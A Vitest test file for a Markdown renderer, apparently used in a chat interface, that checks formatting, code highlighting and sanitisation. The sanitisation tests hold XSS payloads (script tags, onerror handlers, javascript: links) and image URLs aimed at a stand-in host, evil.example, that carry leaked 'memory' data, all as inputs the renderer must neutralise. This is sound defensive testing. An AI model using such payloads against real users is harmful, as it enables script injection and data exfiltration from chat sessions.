import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

function dom(html: string) {
  const el = document.createElement('div');
  el.innerHTML = html;
  return el;
}

describe('renderMarkdown', () => {
  it('renders common Markdown', () => {
    const el = dom(renderMarkdown('# Title\n\nSome **bold** and `code`.\n\n- one\n- two'));
    expect(el.querySelector('h1')?.textContent).toBe('Title');
    expect(el.querySelector('strong')?.textContent).toBe('bold');
    expect(el.querySelectorAll('li')).toHaveLength(2);
  });

  it('highlights fenced code in a known language and adds a copy button', () => {
    const el = dom(renderMarkdown('```python\ndef f(x):\n    return x + 1\n```'));
    const code = el.querySelector('pre code')!;
    expect(code.className).toContain('language-python');
    expect(code.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(code.textContent).toBe('def f(x):\n    return x + 1\n'.trimEnd());
    expect(el.querySelector('button.copy-code')?.textContent).toBe('Copy code');
    expect(el.querySelector('.code-lang')?.textContent).toBe('python');
  });

  it('lets a code block that scrolls sideways be reached and scrolled with the keyboard', () => {
    const el = dom(renderMarkdown('```\nconst aVeryLongLineOfCode = 1;\n```'));
    expect(el.querySelector('pre')?.getAttribute('tabindex')).toBe('0');
  });

  it('escapes code in unknown languages instead of interpreting it', () => {
    const el = dom(renderMarkdown('```brainfuck\n<b>not bold</b>\n```'));
    expect(el.querySelector('pre code b')).toBeNull();
    expect(el.querySelector('pre code')?.textContent).toBe('<b>not bold</b>');
  });

  it('removes scripts, event handlers and javascript: links', () => {
    const html = renderMarkdown('<script>alert(1)</script><img src="x" onerror="alert(2)">\n\n[click](javascript:alert(3))\n\n<iframe src="https://example.org"></iframe>');
    expect(html).not.toMatch(/<script|onerror|javascript:|<iframe/i);
    expect(dom(html).querySelector('img')?.getAttribute('src')).toBe('x');
  });

  it('shows remote images as links that load nothing, in Markdown and in raw HTML', () => {
    const leak = 'https://evil.example/pixel.png?memory=the%20vault%20code';
    for (const source of [`![chart](${leak})`, `<img src="${leak}" alt="chart">`, `<img src="//evil.example/pixel.png?memory=x" alt="chart">`]) {
      const el = dom(renderMarkdown(`Here you go: ${source}`));
      expect(el.querySelector('img')).toBeNull();
      const link = el.querySelector('a.remote-image') as HTMLAnchorElement;
      expect(link.textContent).toBe('Image: chart');
      expect(link.href).toContain('evil.example/pixel.png');
      expect(link.rel).toContain('noreferrer');
    }
  });

  it('loads only same-origin and inline images', () => {
    const dataUrl = 'data:image/png;base64,iVBORw0KGgo=';
    const el = dom(renderMarkdown(`![a](/api/pic.png) ![b](${dataUrl}) ![c](${window.location.origin}/c.png)`));
    expect(Array.from(el.querySelectorAll('img')).map((i) => i.getAttribute('src'))).toEqual(['/api/pic.png', dataUrl, `${window.location.origin}/c.png`]);
  });

  it('keeps nothing else that fetches by itself', () => {
    const html = renderMarkdown(
      '<img src="/ok.png" srcset="https://evil.example/a.png 2x">' +
        '<div style="background-image:url(https://evil.example/b.png)">x</div>' +
        '<table background="https://evil.example/c.png"><tr><td>t</td></tr></table>' +
        '<video poster="https://evil.example/d.png" src="https://evil.example/e.mp4"></video>' +
        '<picture><source srcset="https://evil.example/f.png"></picture>' +
        '<svg><image href="https://evil.example/g.png"></image></svg>',
    );
    expect(html).not.toContain('evil.example');
  });

  it('opens links in a new tab without the opener', () => {
    const a = dom(renderMarkdown('[docs](https://example.org/docs)')).querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.org/docs');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toContain('noopener');
  });

  it('renders a half-streamed reply without throwing', () => {
    expect(() => renderMarkdown('Here is code:\n```js\nconst a = ')).not.toThrow();
    expect(dom(renderMarkdown('Here is code:\n```js\nconst a = ')).querySelector('pre')).not.toBeNull();
  });
});
